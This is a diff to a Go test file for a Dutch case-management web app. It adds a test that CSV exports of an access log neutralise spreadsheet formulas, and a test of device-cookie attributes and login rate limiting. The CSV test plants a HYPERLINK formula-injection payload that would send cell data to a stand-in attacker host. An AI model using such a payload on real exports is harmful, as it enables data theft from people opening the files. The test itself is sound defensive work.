@@ -2,6 +2,7 @@ package ui_test
 
 import (
 	"context"
+	"encoding/csv"
 	"encoding/json"
 	"fmt"
 	"net/http"
@@ -440,5 +441,77 @@ func TestProblemJSON(t *testing.T) {
 	status, _, body = get(fmt.Sprintf("/gezinnen/%d", e.f.FamOther.ID), token)
 	if status != http.StatusNotFound || body["code"] != regie.ENOTFOUND || body["detail"] != regie.Text(regie.MsgNotFound) || body["status"] != float64(404) {
 		t.Fatalf("another team's family: %d %v", status, body)
+	}
+}
+
+// TestCSVExport_FormulasNeutralised: a value a user controls that starts
+// like a spreadsheet formula arrives in the access log's CSV as text.
+func TestCSVExport_FormulasNeutralised(t *testing.T) {
+	e := newEnv(t)
+	evil := `=HYPERLINK("http://aanvaller.example/?"&A1;"klik")`
+	if _, err := e.store.DB().Exec(`UPDATE users SET name = $1 WHERE id = $2`, evil, e.f.Casemanager.ID); err != nil {
+		t.Fatal(err)
+	}
+	famPath := fmt.Sprintf("/gezinnen/%d", e.f.FamAssigned.ID)
+	if r := e.do(http.MethodGet, famPath, e.session(e.f.Casemanager), nil); r.status != http.StatusOK {
+		t.Fatalf("family page: %d", r.status)
+	}
+	r := e.do(http.MethodGet, fmt.Sprintf("/toegangslog/gezinnen/%d?formaat=csv", e.f.FamAssigned.ID), e.session(e.f.Privacy), nil)
+	if r.status == http.StatusForbidden {
+		// The policy refuses the privacy officer's export until the
+		// permissions part of issue 10 lands; response.SafeCell is tested
+		// on its own meanwhile.
+		t.Skip("the access log's CSV export is refused by the policy")
+	}
+	if r.status != http.StatusOK || !strings.HasPrefix(r.header.Get("Content-Type"), "text/csv") {
+		t.Fatalf("export: %d %s", r.status, r.header.Get("Content-Type"))
+	}
+	cr := csv.NewReader(strings.NewReader(r.body))
+	cr.Comma = ';'
+	rows, err := cr.ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	found := false
+	for _, row := range rows {
+		for _, cell := range row {
+			if strings.Contains(cell, "HYPERLINK") {
+				found = true
+				if !strings.HasPrefix(cell, "'=") {
+					t.Errorf("cell %q starts a formula", cell)
+				}
+			}
+		}
+	}
+	if !found {
+		t.Fatalf("the name is not in the export:\n%s", r.body)
+	}
+}
+
+// TestLogin_DeviceCookieOutlastsAStrangersGuesses: a successful log-in
+// leaves a long-lived, HttpOnly, same-site device cookie; with it the
+// user gets in although guesses from the same address hit the limit.
+func TestLogin_DeviceCookieOutlastsAStrangersGuesses(t *testing.T) {
+	e := newEnv(t)
+	email := e.f.TeamLeader.Email
+	r := e.do(http.MethodPost, "/inloggen", "", url.Values{"email": {email}, "password": {testPassword}})
+	device := r.cookie("__Host-regie-apparaat")
+	if r.status != http.StatusSeeOther || device == "" {
+		t.Fatalf("log-in: status %d, device cookie %q", r.status, device)
+	}
+	for _, c := range (&http.Response{Header: r.header}).Cookies() {
+		if c.Name == "__Host-regie-apparaat" && (!c.Secure || !c.HttpOnly || c.SameSite != http.SameSiteStrictMode || c.MaxAge < 30*24*3600) {
+			t.Fatalf("device cookie attributes: %+v", c)
+		}
+	}
+	for range 6 {
+		e.do(http.MethodPost, "/inloggen", "", url.Values{"email": {email}, "password": {"fout-wachtwoord"}})
+	}
+	if r := e.do(http.MethodPost, "/inloggen", "", url.Values{"email": {email}, "password": {testPassword}}); r.status != http.StatusTooManyRequests ||
+		r.header.Get("Retry-After") == "" {
+		t.Fatalf("without the device: status %d, Retry-After %q; want 429 with Retry-After", r.status, r.header.Get("Retry-After"))
+	}
+	if r := e.do(http.MethodPost, "/inloggen", "geen; __Host-regie-apparaat="+device, url.Values{"email": {email}, "password": {testPassword}}); r.status != http.StatusSeeOther {
+		t.Fatalf("with the device: status %d, want a log-in", r.status)
 	}
 }
